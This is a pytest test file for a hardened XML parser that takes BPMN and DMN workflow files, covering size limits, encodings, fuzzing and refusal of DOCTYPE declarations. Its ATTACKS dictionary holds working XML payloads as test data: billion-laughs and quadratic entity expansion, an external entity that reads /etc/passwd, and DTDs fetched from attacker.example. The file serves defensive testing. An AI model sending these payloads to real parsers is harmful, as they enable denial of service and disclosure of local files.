"""Untrusted XML parsing: what is accepted, what is refused, and that refusals are fast and total."""

from __future__ import annotations

import random
import time

import pytest
from lxml import etree

from engine.bpmn.safe_xml import XmlRefused, is_bpmn, is_dmn, parse_untrusted_xml

MB = 1024 * 1024
LIMIT = 32 * MB
BPMN = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- made by a modeler -->
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="defs">
  <bpmn:process id="p" isExecutable="true">
    <bpmn:scriptTask id="s">
      <bpmn:script><![CDATA[page = "<!DOCTYPE html><p>hi</p>" if 1 < 2 else ""]]></bpmn:script>
    </bpmn:scriptTask>
  </bpmn:process>
</bpmn:definitions>
"""
DMN_NAMESPACES = [
    "http://www.omg.org/spec/DMN/20151101/dmn.xsd",
    "http://www.omg.org/spec/DMN/20180521/MODEL/",
    "https://www.omg.org/spec/DMN/20191111/MODEL/",
    "https://www.omg.org/spec/DMN/20230324/MODEL/",
]


def refusal(data: bytes, *, max_bytes: int = LIMIT, filename: str | None = None) -> XmlRefused:
    """Parse ``data`` expecting a refusal; also assert that refusing took well under a second."""
    started = time.perf_counter()
    with pytest.raises(XmlRefused) as caught:
        parse_untrusted_xml(data, filename=filename, max_bytes=max_bytes)
    assert time.perf_counter() - started < 1.0
    return caught.value


def billion_laughs(padding: int = 0) -> bytes:
    levels = [b'<!ENTITY lol0 "lol">']
    levels += [b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)]
    pad = b"<!-- " + b"x" * padding + b" -->" if padding else b""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + b"\n".join(levels) + pad + b"\n]>\n<lolz>&lol9;</lolz>"
    )


def test_a_plain_bpmn_document_is_parsed_and_recognised() -> None:
    root = parse_untrusted_xml(BPMN, filename="p.bpmn", max_bytes=LIMIT)
    assert root.get("id") == "defs"
    assert is_bpmn(root) and not is_dmn(root)
    # "<!DOCTYPE" inside a CDATA script is content, not a declaration: it is kept, not refused.
    assert "<!DOCTYPE html>" in root.findtext(".//{*}script")


@pytest.mark.parametrize("namespace", DMN_NAMESPACES)
def test_dmn_definitions_are_recognised_in_every_supported_namespace(namespace: str) -> None:
    root = parse_untrusted_xml(f'<definitions xmlns="{namespace}" id="d"/>'.encode(), max_bytes=LIMIT)
    assert is_dmn(root) and not is_bpmn(root)


@pytest.mark.parametrize(
    "document",
    [
        b"<definitions/>",
        b'<definitions xmlns="http://www.omg.org/spec/DMN/20990101/MODEL/"/>',
        b'<bpmn:process xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>',
    ],
)
def test_other_roots_are_neither_bpmn_nor_dmn(document: bytes) -> None:
    root = parse_untrusted_xml(document, max_bytes=LIMIT)
    assert not is_bpmn(root) and not is_dmn(root)


def test_a_file_over_the_size_limit_is_refused_and_one_at_the_limit_is_not() -> None:
    refused = refusal(BPMN, max_bytes=len(BPMN) - 1, filename="big.bpmn")
    assert "larger than" in refused.message and refused.filename == "big.bpmn"
    assert str(refused).startswith("big.bpmn: ")
    assert is_bpmn(parse_untrusted_xml(BPMN, max_bytes=len(BPMN)))


@pytest.mark.parametrize("data", [b"", b"   \n\t  "])
def test_an_empty_file_is_refused(data: bytes) -> None:
    assert refusal(data).message == "The file is empty."


def test_malformed_xml_is_refused_with_the_line_and_lxmls_reason() -> None:
    refused = refusal(b"<a>\n<b>\n</c></a>", filename="bad.bpmn")
    assert refused.line == 3
    assert "line 3" in refused.message and "Opening and ending tag mismatch" in refused.message
    assert refused.filename == "bad.bpmn"


def test_an_undeclared_entity_is_refused_as_not_well_formed() -> None:
    assert "not well-formed" in refusal(b"<a>&xxe;</a>").message


ATTACKS = {
    "billion laughs": billion_laughs(),
    "billion laughs, 10 MB": billion_laughs(padding=10 * MB),
    "quadratic blowup, 10 MB": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + b"A" * (5 * MB)
    + b'">]><x>'
    + b"&a;" * (5 * MB // 3)
    + b"</x>",
    "external entity": b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<x>&xxe;</x>",
    "external DTD": b'<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd"><x/>',
    "public external DTD": b'<!DOCTYPE x PUBLIC "-//A//B//EN" "http://attacker.example/a.dtd"><x/>',
    "parameter entities": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><x/>',
    "after comments and PIs": b'<?xml version="1.0"?><!-- hi --><?pi x?>\n\n<!DOCTYPE x><x/>',
    "UTF-8 BOM": b"\xef\xbb\xbf" + billion_laughs(),
    "UTF-16 with BOM": billion_laughs().decode().encode("utf-16"),
    "UTF-16 BE with BOM": b"\xfe\xff" + billion_laughs().decode().encode("utf-16-be"),
    "UTF-16 LE without BOM": billion_laughs().decode().encode("utf-16-le"),
    "UTF-16, 10 MB": billion_laughs(padding=5 * MB).decode().encode("utf-16"),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_every_doctype_attack_is_refused_fast(attack: bytes) -> None:
    refused = refusal(attack, filename="evil.bpmn")
    assert "DOCTYPE" in refused.message
    assert "root:" not in refused.message  # nothing from /etc/passwd made it into the answer


def test_the_doctype_refusal_names_its_line() -> None:
    assert refusal(b'<?xml version="1.0"?>\n\n<!DOCTYPE x>\n<x/>').line == 3


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        ('<?xml version="1.0"?><x/>'.encode("utf-32"), "UTF-32"),
        (b'<?xml version="1.0" encoding="UTF-7"?><x/>', "utf-7"),
        (b'<?xml version="1.0" encoding="UTF-16"?><x/>', "utf-16"),
        ('<?xml version="1.0" encoding="UTF-8"?><x/>'.encode("utf-16"), "utf-8"),
    ],
)
def test_encodings_the_doctype_scan_cannot_read_are_refused(data: bytes, encoding: str) -> None:
    refused = refusal(data)
    assert f"encoding '{encoding}'" in refused.message and "UTF-8" in refused.message


def test_utf16_and_latin1_documents_without_doctype_are_parsed() -> None:
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><x a="é"/>'.encode("utf-16")
    assert parse_untrusted_xml(utf16, max_bytes=LIMIT).get("a") == "é"
    latin1 = '<?xml version="1.0" encoding="ISO-8859-1"?><x a="é"/>'.encode("latin-1")
    assert parse_untrusted_xml(latin1, max_bytes=LIMIT).get("a") == "é"


def test_non_bytes_input_is_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_untrusted_xml("<x/>", max_bytes=LIMIT)  # type: ignore[arg-type]


def _parse_or_refuse(data: bytes) -> None:
    """Any bytes give an element or XmlRefused; anything else escaping is a bug."""
    try:
        root = parse_untrusted_xml(data, max_bytes=LIMIT)
    except XmlRefused as refused:
        assert refused.message
    else:
        assert isinstance(root, etree._Element)


def test_fuzz_random_bytes_only_ever_give_xml_refused() -> None:
    rng = random.Random(1234)
    prefixes = [b"", b"<", b"<?xml ", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"<!", b"<x>"]
    for _ in range(600):
        body = bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 200)))
        _parse_or_refuse(rng.choice(prefixes) + body)


def test_fuzz_truncated_and_mutated_documents_only_ever_give_xml_refused() -> None:
    rng = random.Random(99)
    for document in (BPMN, billion_laughs(), BPMN.decode().encode("utf-16")):
        for cut in range(len(document)):
            _parse_or_refuse(document[:cut])
        for _ in range(300):
            mutated = bytearray(document)
            for _ in range(rng.randint(1, 5)):
                mutated[rng.randrange(len(mutated))] = rng.getrandbits(8)
            _parse_or_refuse(bytes(mutated))
